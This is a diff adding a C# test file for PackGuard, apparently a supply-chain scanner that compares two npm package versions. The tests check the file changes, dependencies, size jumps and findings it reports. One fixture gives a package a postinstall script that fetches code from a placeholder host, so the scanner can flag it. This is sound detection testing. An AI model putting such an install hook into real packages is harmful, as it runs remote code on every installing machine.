@@ -1,0 +1,94 @@
+using PackGuard.Artifacts.Inventory;
+using PackGuard.Diff;
+using PackGuard.Findings;
+using PackGuard.Scanning;
+using PackGuard.Tests.Scanning;
+using PackGuard.Tests.Support;
+
+namespace PackGuard.Tests.Diff;
+
+/// <summary>The diff engine beyond the rule samples: the changes it lists and the figures its findings carry.</summary>
+public sealed class PackageDiffTests
+{
+    private const string V1 = """{"name":"acme","version":"1.0.0","license":"MIT","dependencies":{"ms":"^2.1.2","left":"1"}}""";
+    private const string V2 = """{"name":"acme","version":"1.0.1","license":"MIT","dependencies":{"ms":"^2.1.3","debug":"^4"}}""";
+
+    private static ScanResult Diff(TestFile[] old, TestFile[] @new) =>
+        PackageDiff.Compare(ScanFixture.ScanTarGz(old), ScanFixture.ScanTarGz(@new));
+
+    [Fact]
+    public void Entries_are_matched_by_package_path_and_listed_as_added_removed_and_changed()
+    {
+        var result = Diff(
+            [TestFile.Text("package/package.json", V1), TestFile.Text("package/a.js", "a"), TestFile.Text("package/same.js", "s"), TestFile.Text("package/gone.js", "g")],
+            [TestFile.Text("package/package.json", V2), TestFile.Text("package/a.js", "aa"), TestFile.Text("package/same.js", "s"), TestFile.Text("package/new.js", "n")]);
+
+        var changes = result.Comparison!.Changes;
+        changes.Added.ShouldBe([new EntryChange("new.js", FileKind.Text, null, 1)]);
+        changes.Removed.ShouldBe([new EntryChange("gone.js", FileKind.Text, 1, null)]);
+        changes.Changed.Select(c => c.Path).ShouldBe(["a.js", "package.json"]);
+        changes.Unchanged.ShouldBe(1);
+        result.Comparison.Against.Version.ShouldBe("1.0.0");
+        result.Target.Version.ShouldBe("1.0.1");
+    }
+
+    [Fact]
+    public void A_tarball_whose_top_directory_differs_still_compares_file_by_file()
+    {
+        var result = Diff([TestFile.Text("package/index.js", "x")], [TestFile.Text("node/index.js", "x")]);
+
+        result.Comparison!.Changes.Unchanged.ShouldBe(1);
+        result.Findings.ShouldBeEmpty();
+    }
+
+    [Fact]
+    public void Dependencies_are_listed_added_removed_and_changed_and_only_added_ones_are_findings()
+    {
+        var result = Diff([TestFile.Text("package/package.json", V1)], [TestFile.Text("package/package.json", V2)]);
+
+        result.Comparison!.Changes.Dependencies.Select(d => (d.Name, d.Change)).ShouldBe([("debug", "added"), ("left", "removed"), ("ms", "changed")]);
+        result.Findings.Where(f => f.RuleId == DiffRules.NewDependency).ShouldHaveSingleItem().Properties["package"]!.GetValue<string>().ShouldBe("debug");
+    }
+
+    [Fact]
+    public void The_size_jump_names_the_ratio_and_the_files_that_grew_most()
+    {
+        var result = Diff(
+            [TestFile.Text("package/package.json", V1), TestFile.Text("package/cli.js", new string('x', 1_000_000))],
+            [TestFile.Text("package/package.json", V1), TestFile.Text("package/cli.js", new string('x', 1_100_000)), TestFile.Text("package/cli.js.map", new string('m', 2_000_000))]);
+
+        var size = result.Findings.Single(f => f.RuleId == DiffRules.SizeJump);
+        size.Severity.ShouldBe(Severity.Medium);
+        size.Message.ShouldContain("(3.10×, +2.1 MB)");
+        size.Message.ShouldContain("cli.js.map (+2.0 MB, new), cli.js (+100.0 kB)");
+        result.Comparison!.Changes.Size.Ratio!.Value.ShouldBe(3.1, 0.01);
+    }
+
+    [Fact]
+    public void Install_script_findings_quote_the_command_and_what_it_was()
+    {
+        var result = Diff(
+            [TestFile.Text("package/package.json", """{"name":"acme","version":"1.0.0","scripts":{"postinstall":"node a.js"}}""")],
+            [TestFile.Text("package/package.json", """{"name":"acme","version":"1.0.1","scripts":{"postinstall":"node -e \"require('https').get('https://x.example/p')\""}}""")]);
+
+        var finding = result.Findings.Single(f => f.RuleId == DiffRules.NewInstallScript);
+        finding.Severity.ShouldBe(Severity.High);
+        finding.Message.ShouldStartWith("acme@1.0.1 changes its postinstall script that downloads or pipes code into an interpreter: `node -e");
+        finding.Message.ShouldContain("(in acme@1.0.0 it was `node a.js`)");
+        finding.Location.Path.ShouldBe("package/package.json");
+    }
+
+    [Fact]
+    public void New_findings_are_matched_by_fingerprint_and_keep_their_severity_and_rule()
+    {
+        var map = ScanFixture.Map(("src/a.ts", "export const a = 1;"));
+        var result = Diff(
+            [TestFile.Text("package/package.json", ScanFixture.Proprietary), TestFile.Text("package/a.js.map", map)],
+            [TestFile.Text("package/package.json", ScanFixture.Proprietary), TestFile.Text("package/a.js.map", map), TestFile.Text("package/b.js.map", map)]);
+
+        var finding = result.Findings.Where(f => f.RuleId == DiffRules.NewFinding).ShouldHaveSingleItem();
+        finding.Location.Path.ShouldBe("package/b.js.map");
+        finding.Severity.ShouldBe(Severity.Critical);
+        finding.Properties["ruleId"]!.GetValue<string>().ShouldBe("source-map/embedded-sources");
+    }
+}
